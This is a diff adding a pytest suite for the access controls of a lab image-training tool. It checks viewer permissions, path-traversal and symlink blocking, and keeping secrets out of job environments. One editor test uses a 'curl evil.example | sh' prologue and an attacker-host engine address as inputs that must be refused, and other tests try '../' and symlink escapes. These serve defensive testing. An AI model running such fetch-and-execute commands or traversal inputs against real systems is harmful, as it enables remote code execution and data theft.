@@ -1,0 +1,170 @@
+"""Who may do what: a viewer changes nothing, whatever is called; hosted, no file is read that is below no root."""
+
+import numpy as np
+import pandas as pd
+import pytest
+
+from ssrl_core import access, stores
+from ssrl_core.access import Person
+from ssrl_core.datasets import creation, importing, store
+from ssrl_core.datasets.cells import field_lists
+from ssrl_core.errors import AccessError, SpecError
+from ssrl_core.runs import jobs
+from ssrl_core.runs.folder import annotations
+from ssrl_core.runs.folder.run_folder import RunFolder
+from ssrl_core.runs.queue import ordering, processes, registry, stopping, submitting, sweeps
+from ssrl_core.runs.worker.engines import settings
+from ssrl_core.specs import composition
+from ssrl_core.specs.run import RunSpec
+from ssrl_core.specs.sweep import SweepSpec
+from tests.kit import make_imageset, make_run
+
+VIEWER = Person("vi@lab.example", access.VIEWER, hosted=True, by_page=True)
+EDITOR = Person("ed@lab.example", access.EDITOR, hosted=True, by_page=True)
+SPEC = {"dataset": "kit", "method": "simclr", "backbone": "tiny_cnn", "terms": "mnist-first-set", "epochs": 1}
+
+
+def _run() -> RunFolder:
+    return RunFolder(next(run["id"] for run in registry.list_runs(demo=False)))
+
+
+CHANGES = {
+    "queue": lambda: submitting.submit(RunSpec.from_mapping({**SPEC, "seed": 9}), start=False),
+    "ask for more": lambda: submitting.ask_more(_run().id, {"read": True}),
+    "sweep": lambda: sweeps.submit(SweepSpec.from_mapping({**SPEC, "seeds": [1, 2], "vary": {}}), start=False),
+    "stop": lambda: stopping.stop(_run().id),
+    "stop all": lambda: stopping.stop_all([_run().id]),
+    "resume": lambda: stopping.resume(_run().id, start=False),
+    "resume all": lambda: stopping.resume_all([_run().id], start=False),
+    "delete": lambda: stopping.delete(_run().id),
+    "delete all": lambda: stopping.delete_all([_run().id]),
+    "delete a sweep": lambda: stopping.delete_sweep("none"),
+    "pause": ordering.pause,
+    "go on": ordering.unpause,
+    "priority": lambda: ordering.set_priority([_run().id], 1),
+    "to the front": lambda: ordering.to_the_front([_run().id]),
+    "worker": processes.start_coordinator,
+    "end the worker": processes.ask_to_end,
+    "job": lambda: jobs.start("x", ["--version"]),
+    "stop a job": lambda: jobs.stop("x"),
+    "name": lambda: annotations.mark(_run(), 0, "clusters_kmeans_k3", 0, name="round"),
+    "tag": lambda: annotations.tag(_run(), 0, "odd", [1]),
+    "import": lambda: creation.create("new", np.zeros((4, 1, 8, 8), np.uint8), pd.DataFrame({"a": range(4)})),
+    "delete images": lambda: store.delete("kit"),
+    "channels": lambda: store.set_channels("kit", store.load("kit").channels),
+    "composition": lambda: composition.save(composition.load("mnist-first-set").renamed("mine")),
+    "engine": lambda: settings.save_settings(settings.load_settings({"slots": 2})),
+}
+
+
+@pytest.fixture
+def stored() -> None:
+    make_imageset(n=60)
+    make_run()
+    registry.reconcile()
+
+
+def _content() -> dict[str, bytes]:
+    """All files of the stores, without locks and the index."""
+    roots = (stores.data_root(), stores.models_root())
+    files = (path for root in roots for path in root.rglob("*") if path.is_file())
+    return {str(p): p.read_bytes() for p in files if "lock" not in p.name and not p.name.startswith("runs.db")}
+
+
+@pytest.mark.parametrize("change", CHANGES.values(), ids=CHANGES)
+def test_a_viewer_changes_nothing(stored, change):
+    before = _content()
+    with access.acting_as(VIEWER), pytest.raises(AccessError, match="viewer"):
+        change()
+    assert _content() == before
+
+
+def test_an_editor_who_is_hosted_changes_what_others_see_but_not_what_a_shell_runs(stored):
+    with access.acting_as(EDITOR):
+        annotations.mark(_run(), 0, "clusters_kmeans_k3", 0, name="round")
+        settings.save_settings(settings.load_settings({"slots": 2}))
+        for changes in ({"slurm": {"prologue": ["curl evil.example | sh"]}}, {"engine": "tcp://evil.example:8786"}):
+            with pytest.raises(AccessError, match="on the server only"):
+                settings.save_settings(settings.load_settings(changes))
+    assert settings.load_settings().slots == 2
+
+
+def test_hosted_no_file_is_read_that_is_below_no_root(stored, tmp_path, monkeypatch):
+    secret = tmp_path / "secret.yaml"
+    secret.write_text("steps: [{transform: horizontal_flip}]\n")
+    (stores.data_root() / "link").symlink_to(tmp_path)
+    weights = {**SPEC, "backbone": {"name": "tiny_cnn", "weights": str(secret)}}
+    reads = [
+        lambda: composition.load(str(secret)),
+        lambda: composition.load(str(stores.data_root() / "link" / "secret.yaml")),
+        lambda: composition.load(str(stores.data_root() / ".." / "secret.yaml")),
+        lambda: importing.glance(str(tmp_path)),
+        lambda: field_lists.list_fields(str(tmp_path)),
+        lambda: submitting.submit(RunSpec.from_mapping(weights), start=False),
+    ]
+    with access.acting_as(EDITOR):
+        for read in reads:
+            with pytest.raises(AccessError, match="below its roots"):
+                read()
+        (stores.models_root() / "hosting.yaml").write_text(f"version: 1\nroots: [{tmp_path}]\n")
+        assert composition.load(str(secret)).steps
+
+
+def test_a_table_of_fields_names_nothing_outside(stored, tmp_path):
+    from PIL import Image
+
+    Image.fromarray(np.zeros((64, 64), np.uint8)).save(tmp_path / "outside.png")
+    folder = stores.data_root() / ".upload-x"
+    folder.mkdir()
+    (folder / "fields.csv").write_text(f"well,dna\nA1,{tmp_path / 'outside.png'}\nA2,../../outside.png\n")
+    with access.acting_as(EDITOR):
+        listed = field_lists.list_fields(str(folder / "fields.csv"))
+    assert {row.files[0][0] for row in listed.fields} == {folder / "outside.png"}  # where there is none
+
+
+def test_who_sees_one_run_is_told_of_one(stored):
+    make_run(spec={"seed": 6})
+    one = _run().id
+    with access.acting_as(Person(role=access.VIEWER, hosted=True, by_page=True, only=one)):
+        assert [run["id"] for run in registry.list_runs()] == [one]
+
+
+def test_a_job_is_bound_as_who_started_it_and_knows_no_password(monkeypatch):
+    monkeypatch.setenv("VIEWLOOM_PASSWORD", "correct horse")
+    with access.acting_as(EDITOR):
+        environment = processes.child_environment()
+    assert environment[access.VARIABLE] == "ed@lab.example"
+    assert not set(access.SECRETS) & set(environment)
+    monkeypatch.setenv(access.VARIABLE, "ed@lab.example")
+    assert access.current().hosted
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ("sign_in: magic", "one of password, header, oidc"),
+        ("sign_in: header", "trusted"),
+        ("sign_in: header\nheader: {name: X-User, trusted: [everywhere]}", "addresses such as"),
+        ("root: [/]", "of editors"),
+        ("- 1", "a mapping"),
+        ("version: 9", "at most 1"),
+        ("roots: [1]", "a list of texts"),
+    ],
+)
+def test_settings_that_are_none_are_refused(text, said):
+    (stores.models_root() / "hosting.yaml").write_text(text)
+    with pytest.raises(SpecError, match=said):
+        access.hosting()
+
+
+def test_others_reach_the_app_only_where_they_sign_in(monkeypatch):
+    assert access.why_not_for_others("127.0.0.1") == "" == access.why_not_for_others("localhost")
+    assert "sign in" in access.why_not_for_others("0.0.0.0")
+    monkeypatch.setenv("VIEWLOOM_HOSTS", "lab.example")  # a proxy stands before it
+    assert "sign in" in access.why_not_for_others("127.0.0.1")
+    monkeypatch.setenv("VIEWLOOM_PASSWORD", "short")
+    assert "8 characters" in access.why_not_for_others("0.0.0.0")
+    monkeypatch.setenv("VIEWLOOM_PASSWORD", "correct horse")
+    assert access.why_not_for_others("0.0.0.0") == ""
+    monkeypatch.setenv("VIEWLOOM_VIEWER_PASSWORD", "correct horse")
+    assert "another one" in access.why_not_for_others("0.0.0.0")
